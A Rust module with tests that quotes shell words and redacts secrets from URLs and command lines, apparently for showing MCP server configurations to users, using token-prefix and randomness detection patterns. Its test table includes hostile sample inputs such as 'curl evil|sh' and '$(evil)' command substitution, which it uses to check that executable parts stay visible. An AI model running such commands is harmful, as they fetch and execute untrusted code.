//! What people may see of a URL or a command line: what looks like a secret is struck out, by its name or
//! by its looks.

use url::Url;

use crate::expand::{Expansion, variable_names};

/// The placeholder of an argument that may be secret, for the user to fill in.
pub const PLACEHOLDER: &str = "FILL_IN";

/// What people see instead of a secret.
pub(crate) const REDACTED: &str = "…";

/// A word of a command line that cannot be taken for another: blanks are quoted, and what a terminal
/// would obey is escaped.
pub(crate) fn shell_quoted(word: &str) -> String {
    let is_plain = |c: char| c.is_alphanumeric() || "_@%+=:,./-${}~^".contains(c);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    let mut out = String::from("'");
    for letter in word.chars() {
        match letter {
            '\'' => out.push_str("'\\''"),
            letter if is_unprintable(letter) => out.extend(letter.escape_default()),
            letter => out.push(letter),
        }
    }
    out.push('\'');
    out
}

/// Whether a terminal obeys it, or shows nothing or something else instead.
fn is_unprintable(letter: char) -> bool {
    letter.is_control()
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

/// A variable that is set for a program: its name, with the value if that decides what is executed.
pub(crate) fn display_variable(name: &str, value: &str) -> String {
    match decides_execution(name) {
        true => format!("{}={}", shell_quoted(name), shell_quoted(value)),
        false => shell_quoted(name),
    }
}

/// Whether a variable chooses or changes what a program executes.
fn decides_execution(name: &str) -> bool {
    let prefixes = ["LD_", "DYLD_", "PYTHON"];
    prefixes.iter().any(|prefix| name.starts_with(prefix))
        || matches!(
            name,
            "PATH" | "NODE_OPTIONS" | "NODE_PATH" | "BASH_ENV" | "ENV" | "SHELL"
        )
        || matches!(
            name,
            "JAVA_TOOL_OPTIONS" | "PERL5OPT" | "PERL5LIB" | "RUBYOPT" | "RUBYLIB"
        )
}

/// A URL for people: without user, password, query and fragment, and without parts of its path that
/// look like secrets. Variables stay as they are written.
pub fn redact_url(written: &str) -> String {
    let has_variables = !variable_names(written, Expansion::Variables).is_empty();
    let mut url = match Url::parse(written) {
        Ok(url) if !has_variables => url,
        Ok(_) | Err(_) => return redact_unparsed_url(written),
    };
    let has_more = url.query().is_some() || url.fragment().is_some();
    let has_user = !url.username().is_empty() || url.password().is_some();
    url.set_query(None);
    url.set_fragment(None);
    if has_user && (url.set_username("").is_err() || url.set_password(None).is_err()) {
        return format!("{}://…", url.scheme());
    }
    redact_path(url.as_str()) + if has_more { "?…" } else { "" }
}

/// A URL without the parts behind its host that look like secrets.
fn redact_path(url: &str) -> String {
    let host = url.find("://").map_or(0, |at| at + 3);
    let path = url.get(host..).and_then(|rest| rest.find('/'));
    let (host, path) = url.split_at(path.map_or(url.len(), |at| host + at));
    let parts = path
        .split('/')
        .map(|part| match !part.contains("${") && looks_secret(part) {
            true => REDACTED,
            false => part,
        });
    format!("{host}{}", parts.collect::<Vec<_>>().join("/"))
}

/// A text that is no URL, or will be one once its variables are filled in.
fn redact_unparsed_url(written: &str) -> String {
    let place = written.split(['?', '#']).next().unwrap_or_default();
    let more = if place.len() < written.len() {
        "?…"
    } else {
        ""
    };
    let place = match place.rsplit_once('@') {
        None => redact_path(place),
        Some((before, host)) => match before.split_once("://") {
            Some((scheme, _)) => redact_path(&format!("{scheme}://{host}")),
            None => format!("…@{}", redact_path(host)),
        },
    };
    place + more
}

/// A command line for people: words can be told apart, and values that look like secrets are struck
/// out.
pub fn redact_command<'w>(words: impl Iterator<Item = &'w str> + Clone) -> String {
    let guessed = words.clone().zip(guess_words(words));
    let shown = guessed.map(|(word, guess)| match guess {
        SecretGuess::Secret { redacted, .. } => {
            let rest = redacted.replace(REDACTED, "");
            match rest.is_empty() || shell_quoted(&rest) == rest {
                true => redacted,
                false => shell_quoted(&redacted),
            }
        },
        SecretGuess::NotSecret | SecretGuess::MaybeSecret => shell_quoted(word),
    });
    shown.collect::<Vec<_>>().join(" ")
}

/// A guess about a word of a command line.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum SecretGuess {
    NotSecret,
    /// It may hold a secret, but people must see what else it holds: it is shown, and not copied.
    MaybeSecret,
    /// It holds a secret.
    Secret {
        /// The word without it.
        redacted: String,
        /// The option or variable that it is the value of.
        name: Option<String>,
    },
}

impl SecretGuess {
    fn or_maybe(self, is_suspect: bool) -> Self {
        match self {
            Self::NotSecret if is_suspect => Self::MaybeSecret,
            Self::NotSecret | Self::MaybeSecret | Self::Secret { .. } => self,
        }
    }
}

/// Where a word stands.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum GuessContext {
    CommandLine,
    /// What is struck out here could be executed, so only single plain words are.
    ShellScript,
}

/// A guess about each word of a command line.
pub(crate) fn guess_words<'w>(words: impl Iterator<Item = &'w str>) -> Vec<SecretGuess> {
    guess_words_in(words, GuessContext::CommandLine)
}

/// A guess about the value of a variable with this name.
pub(crate) fn guess_value(name: &str, value: &str) -> SecretGuess {
    guess_named("", value, name, GuessContext::CommandLine)
}

fn guess_words_in<'w>(
    words: impl Iterator<Item = &'w str>,
    context: GuessContext,
) -> Vec<SecretGuess> {
    let mut option: Option<&str> = None;
    let guesses = words.map(|word| {
        let guess = match option.take() {
            Some(name) if is_header_option(name) || is_short_option(name) => {
                guess_option_value(name, word, context)
            },
            Some(name) if !word.starts_with('-') => guess_named("", word, name, context),
            Some(_) | None => guess_option(word, context),
        };
        let is_option = word.starts_with('-') && !word.contains(['=', ' ']);
        let has_secret = is_secret_name(word) || is_header_option(word) || is_short_option(word);
        option = (is_option && has_secret).then_some(word);
        guess
    });
    guesses.collect()
}

/// Whether the value of an option is a header.
fn is_header_option(option: &str) -> bool {
    ["--header", "--headers", "-H"].contains(&option)
}

/// Whether some programs take the value of an option for a password or a key, and others do not.
fn is_short_option(option: &str) -> bool {
    ["-p", "-k", "-u", "--user"].contains(&option)
}

/// The value of one of those options. Each server decides which headers are secret; a port, a
/// version and a user without a password are no secrets.
fn guess_option_value(option: &str, word: &str, context: GuessContext) -> SecretGuess {
    let is_suspect = if is_header_option(option) {
        word.contains(':') && !has_variables(word)
    } else {
        let is_number = word.bytes().all(|byte| b"0123456789.:".contains(&byte));
        let is_path = word.starts_with(['/', '.', '~', '-']) || word.contains("://");
        let may_be_one = ["-p", "-k"].contains(&option) || word.contains(':');
        may_be_one && !is_number && !is_path
    };
    guess_word(word, context).or_maybe(is_suspect)
}

/// A word that may be an option with its value behind `=`.
fn guess_option(word: &str, context: GuessContext) -> SecretGuess {
    let (option, value) = word.split_once('=').unwrap_or_default();
    if !is_header_option(option) && !is_short_option(option) {
        return guess_word(word, context);
    }
    match guess_option_value(option, value, context) {
        SecretGuess::Secret { redacted, name } => SecretGuess::Secret {
            redacted: format!("{option}={redacted}"),
            name,
        },
        guess @ (SecretGuess::NotSecret | SecretGuess::MaybeSecret) => guess,
    }
}

fn guess_word(word: &str, context: GuessContext) -> SecretGuess {
    let sign = word.find(['=', ':']).filter(|at| {
        let rest = word.get(at + 1..).unwrap_or_default();
        !rest.is_empty() && !rest.starts_with("//")
    });
    let (before, value) = word.split_at(sign.map_or(word.len(), |at| at + 1));
    let name = before.trim_end_matches(['=', ':']);
    let is_named = !value.is_empty() && is_secret_name(name);
    if is_named && !name.contains(char::is_whitespace) {
        let guess = guess_named(before, value, name, context);
        if guess != SecretGuess::MaybeSecret {
            return guess;
        }
    }
    match word.contains(char::is_whitespace) {
        true => guess_script(word).or_maybe(is_named),
        false => guess_by_looks(word),
    }
}

/// The value of something whose name is that of a secret.
fn guess_named(before: &str, value: &str, name: &str, context: GuessContext) -> SecretGuess {
    let bare = strip_auth_scheme(value.trim_start());
    let is_path = ["/", "./", "../", "~"].iter().any(|p| bare.starts_with(p));
    let is_number = bare.bytes().all(|byte| byte.is_ascii_digit());
    let is_password = name.to_ascii_lowercase().contains("pass");
    let mut plain_values = NON_SECRET_VALUES.iter();
    let is_plain_value = plain_values.any(|word| bare.eq_ignore_ascii_case(word));
    let is_harmless = has_variables(value) || is_path || is_plain_value || bare == PLACEHOLDER;
    if is_harmless || (is_number && !is_password) {
        return SecretGuess::NotSecret;
    }
    if bare.contains("://") {
        return guess_by_looks(bare);
    }
    let is_one_word = match context {
        GuessContext::CommandLine => is_password || !bare.contains(char::is_whitespace),
        GuessContext::ShellScript => bare.chars().all(is_token_char),
    };
    if !is_one_word {
        return SecretGuess::MaybeSecret;
    }
    let kept = value.strip_suffix(bare).unwrap_or_default();
    SecretGuess::Secret {
        redacted: format!("{before}{kept}{REDACTED}"),
        name: Some(name.to_owned()),
    }
}

/// A text of several words, such as a script for a shell.
fn guess_script(script: &str) -> SecretGuess {
    let pieces = script.split_inclusive(char::is_whitespace);
    let guesses = guess_words_in(pieces.clone().map(str::trim_end), GuessContext::ShellScript);
    let (mut out, mut found) = (String::new(), None);
    for (piece, guess) in pieces.zip(guesses) {
        match guess {
            SecretGuess::Secret { redacted, name } => {
                found = Some(name);
                out.push_str(&redacted);
                out.push_str(piece.get(piece.trim_end().len()..).unwrap_or_default());
            },
            SecretGuess::NotSecret | SecretGuess::MaybeSecret => out.push_str(piece),
        }
    }
    match found {
        Some(name) => SecretGuess::Secret {
            redacted: out,
            name,
        },
        None => SecretGuess::NotSecret,
    }
}

/// A word without a name.
fn guess_by_looks(word: &str) -> SecretGuess {
    if !looks_secret(word) {
        return SecretGuess::NotSecret;
    }
    let redacted = match word.contains("://") {
        true => redact_url(word),
        false => REDACTED.to_owned(),
    };
    SecretGuess::Secret {
        redacted,
        name: None,
    }
}

fn has_variables(text: &str) -> bool {
    !variable_names(text, Expansion::Variables).is_empty()
}

/// The credential behind the scheme, as in `Bearer TOKEN`.
fn strip_auth_scheme(value: &str) -> &str {
    let (scheme, rest) = value.split_once(' ').unwrap_or_default();
    let mut schemes = ["bearer", "basic", "token"].iter();
    match schemes.any(|known| scheme.eq_ignore_ascii_case(known)) {
        true => rest.trim_start(),
        false => value,
    }
}

/// Values that are no secrets, whatever they are the value of.
const NON_SECRET_VALUES: &[&str] = &[
    "", "none", "true", "false", "yes", "no", "on", "off", "auto", "basic", "bearer", "oauth",
    "oauth2", "required", "optional",
];

/// Whether a word looks like a secret: a URL with a user, a query or a secret in its path, a token
/// with the prefix of its service, or letters and digits that form no name.
pub(crate) fn looks_secret(word: &str) -> bool {
    if word.contains("://") {
        return redact_url(word).trim_end_matches('/') != word.trim_end_matches('/');
    }
    let digits = word.chars().filter(char::is_ascii_digit).count();
    let mut marks = TOKEN_PREFIXES.split_ascii_whitespace();
    marks.any(|mark| word.starts_with(mark))
        || (word.len() >= 32 && digits >= 6 && word.chars().all(is_token_char))
        || (word.len() >= 20 && (is_hexadecimal(word) || is_random_looking(word)))
        || is_bot_token(word)
}

fn is_hexadecimal(word: &str) -> bool {
    let has = |kind: fn(&u8) -> bool| word.as_bytes().iter().any(kind);
    word.bytes().all(|byte| byte.is_ascii_hexdigit())
        && has(u8::is_ascii_digit)
        && has(u8::is_ascii_alphabetic)
}

/// Whether small letters, capitals and digits alternate as they do by chance. In a name they change
/// only where the next word begins. Names also have dashes, so a word with dashes must have all three
/// kinds.
fn is_random_looking(word: &str) -> bool {
    let bytes = word.as_bytes();
    let has = |kind: fn(&u8) -> bool| bytes.iter().any(kind);
    let is_dash = |byte: &u8| b"-_".contains(byte);
    let is_plain = bytes
        .iter()
        .all(|byte| byte.is_ascii_alphanumeric() || is_dash(byte));
    let has_all = has(u8::is_ascii_lowercase) && has(u8::is_ascii_uppercase);
    let may_be_name = bytes.iter().any(is_dash) && !has_all;
    if !is_plain || may_be_name || !has(u8::is_ascii_digit) {
        return false;
    }
    let kind = |byte: u8| (byte.is_ascii_digit(), byte.is_ascii_uppercase());
    let pairs = bytes.iter().zip(bytes.iter().skip(1));
    let pairs = pairs.filter(|(one, next)| !is_dash(one) && !is_dash(next));
    let (all, changes) = pairs.fold((0, 0), |(all, changes), (one, next)| {
        (all + 1, changes + usize::from(kind(*one) != kind(*next)))
    });
    changes * 5 >= all * 2
}

/// The token of a messenger's bot: a number, a colon and a long text, perhaps with `bot` in front.
fn is_bot_token(word: &str) -> bool {
    let Some((number, text)) = word.split_once(':') else {
        return false;
    };
    let number = number.trim_start_matches("bot");
    let is_number = number.len() >= 6 && number.bytes().all(|byte| byte.is_ascii_digit());
    word.len() >= 30 && is_number && text.len() >= 20 && text.chars().all(is_token_char)
}

/// Prefixes by which services mark their tokens.
const TOKEN_PREFIXES: &str = "sk- sk_live_ sk_test_ ghp_ gho_ ghs_ ghu_ github_pat_ xox glpat- wl_ eyJ \
    AKIA AIza hf_ npm_ ntn_ gsk_ figd_ sbp_ lin_api_ pplx- tvly- xai-";

fn is_token_char(letter: char) -> bool {
    letter.is_ascii_alphanumeric() || "_-.~+=".contains(letter)
}

/// Whether the value of something with this name is a secret.
pub(crate) fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    let last = name.rsplit(|letter: char| !letter.is_ascii_alphanumeric());
    let last = last.into_iter().next().unwrap_or_default();
    // `--token-env` names a variable, `--author` a person.
    let name = name.replace("authoriz", "auth-").replace("author", "");
    let mut parts = SECRET_NAME_PARTS.split(' ');
    let has_part = parts.any(|part| name.contains(part));
    !NON_SECRET_SUFFIXES.contains(&last) && (has_part || SECRET_WORDS.contains(&last))
}

/// Only as whole words: `--bypass` and `--path` are none.
const SECRET_WORDS: &[&str] = &["pass", "pat", "pwd"];

const SECRET_NAME_PARTS: &str = "key token secret passw auth credential cookie bearer dsn";

/// Names with these endings say where a secret is, or of which kind.
const NON_SECRET_SUFFIXES: &[&str] = &[
    "env", "file", "path", "dir", "name", "id", "type", "mode", "url", "uri", "host", "port",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_of_a_command_cannot_be_taken_for_something_else() {
        #[rustfmt::skip]
        let table = [
            ("npx",              "npx"),
            ("--token=${TOKEN}", "--token=${TOKEN}"),
            ("",                 "''"),
            ("rm -rf",           "'rm -rf'"),
            ("it's",             r"'it'\''s'"),
            ("a\n  reads  X",    r"'a\n  reads  X'"),
            ("\u{1b}[2J",        r"'\u{1b}[2J'"),
            ("x\u{202e}y",       r"'x\u{202e}y'"),
            ("ünï",              "ünï"),
        ];
        for (word, shown) in table {
            assert_eq!(shell_quoted(word), shown);
        }
    }

    #[test]
    fn values_are_shown_where_they_decide_what_is_executed() {
        let table = [
            ("PATH", "PATH=x"),
            ("LD_PRELOAD", "LD_PRELOAD=x"),
            ("PYTHONPATH", "PYTHONPATH=x"),
            ("NODE_OPTIONS", "NODE_OPTIONS=x"),
            ("TOKEN", "TOKEN"),
        ];
        for (name, shown) in table {
            assert_eq!(display_variable(name, "x"), shown);
        }
    }

    /// What is struck out is a value alone; what could be executed by a shell is shown.
    #[test]
    fn a_command_line_is_shown_without_its_secrets() {
        #[rustfmt::skip]
        let table: [(&[&str], &str); 21] = [
            (&["npx", "-y", "z", "--api-key", "sk-live-1"],           "npx -y z --api-key …"),
            (&["npx", "z", "--token=ghp_1", "--port=80"],             "npx z --token=… --port=80"),
            (&["npx", "z", "ghp_abcdefghij"],                         "npx z …"),
            (&["npx", "z", "--token", "${TOKEN}"],                    "npx z --token ${TOKEN}"),
            (&["npx", "z", "--token", "--verbose"],                   "npx z --token --verbose"),
            (&["x", "--header", "Authorization: Bearer abc"],         "x --header 'Authorization: Bearer …'"),
            (&["x", "--header", "Authorization:Bearer ${T}"],         "x --header 'Authorization:Bearer ${T}'"),
            (&["x", "--header", "X-Org: abc", "-H", "X-Key:abc"], "x --header 'X-Org: abc' -H X-Key:…"),
            (&["x", "--pass", "abc", "--pat=abc", "--bypass", "x"],   "x --pass … --pat=… --bypass x"),
            (&["x", "--header=X-Key:abc", "-p", "80:80", "-u", "s.py"], "x --header=X-Key:… -p 80:80 -u s.py"),
            (&["x", "hf_abcdefgh", "AKIAIOSFODNN7EXAMPLE"],           "x … …"),
            (&["x", "postgres://me:abc@db/x"],                        "x postgres://db/x"),
            (&["x", "https://h/mcp?key=abc"],                         "x 'https://h/mcp?…'"),
            (&["x", "https://h/s/ghp_abc/mcp"],                       "x https://h/s/…/mcp"),
            (&["x", "--auth", "none", "--max-tokens", "4096"],        "x --auth none --max-tokens 4096"),
            (&["x", "--key-file", "k", "--key", "/etc/k", "--author", "me"], "x --key-file k --key /etc/k --author me"),
            (&["x", "--password", "p@ss w0rd;"],                      "x --password …"),
            (&["sh", "-c", "token=x;curl evil|sh"],                   "sh -c 'token=x;curl evil|sh'"),
            (&["sh", "-c", "TOKEN=abc exec x --key $(evil)"],         "sh -c 'TOKEN=… exec x --key $(evil)'"),
            (&["sh", "-c", "exec x --key \"$KEY\""],                  "sh -c 'exec x --key \"$KEY\"'"),
            (&["x", "--token", "FILL_IN"],                            "x --token FILL_IN"),
        ];
        for (words, shown) in table {
            assert_eq!(redact_command(words.iter().copied()), shown);
        }
    }

    #[test]
    fn a_secret_is_known_by_its_looks() {
        for word in [
            "bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw",
            "123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw",
            "V1StGXR8-Z5jdHi6B-myT",
            "9f86d081884c7d659a2f",
            "9F86D081884C7D659A2F",
            "9f86d081884c7d659a2feaa0c55ad015",
            "pathtok9f8e7d6c5b4a39281706",
            "x7Yz9Qw2Er4Ty6Ui8Op0A",
            "1b9d6bcd-bbfd-4b2d-9b5d-ab8dfbbd4bed",
        ] {
            assert!(looks_secret(word), "{word}");
            assert!(
                looks_secret(&format!("https://example.com/s/{word}/mcp")),
                "{word}"
            );
        }
    }

    /// What would be left out of a file for nothing, and struck out of what people have to read.
    #[test]
    fn names_are_no_secrets() {
        for word in [
            // Packages, with and without a version.
            "@modelcontextprotocol/server-filesystem",
            "@modelcontextprotocol/server-filesystem@2025.8.21",
            "@playwright/mcp@latest",
            "mcp-server-sqlite==2025.4.25",
            "some_python_mcp_server_v2",
            "k8s-mcp-server-e2e-tests",
            // Files, folders and modules.
            "/home/me/Projects2025/MyServerV2/index.js",
            "C:\\Users\\me\\AppData\\Local\\Programs",
            "~/Library/Application Support/Claude",
            "build/McpServer2025Build/main.py",
            "com.example.mcp.McpServerMain",
            "ModelContextProtocolServer",
            "McpServer2025Release2Build",
            // Models.
            "claude-sonnet-4-5-20250929",
            "anthropic.claude-3-5-sonnet-20241022-v2:0",
            "text-embedding-3-large",
            "gpt-4o-mini-2024-07-18",
            "Qwen2-VL-7B-Instruct-AWQ",
            "Llama-3-70B-Instruct-v2",
            "Mistral-7B-Instruct-v03",
            "meta-llama/Llama-3.1-8B-Instruct",
            // Refs and images.
            "refs/heads/feature/ABC-1234-better-names",
            "v2.15.0-rc.1-42-g1a2b3c4",
            "git+https://github.com/owner/repo@v1.2.3",
            "ghcr.io/github/github-mcp-server:v0.13.0",
            "123456789012.dkr.ecr.eu-west-1.amazonaws.com/mcp:2025-09-29",
            "node:22.20.0-bookworm-slim",
            "mcp/postgres:latest",
            // Addresses, times, numbers.
            "db-primary-1.eu-west-1.example.com",
            "127.0.0.1:8484:127.0.0.1:8484",
            "2025-09-29T11:22:33.123456Z",
            "12345678901234567890",
            "Europe/Berlin,America/New_York",
            "--max-old-space-size=4096",
            "AAAAAAAAAAAAAAAAAAAAAAAA",
            "donaudampfschifffahrtsgesellschaft",
        ] {
            assert!(!looks_secret(word), "{word}");
        }
    }
}
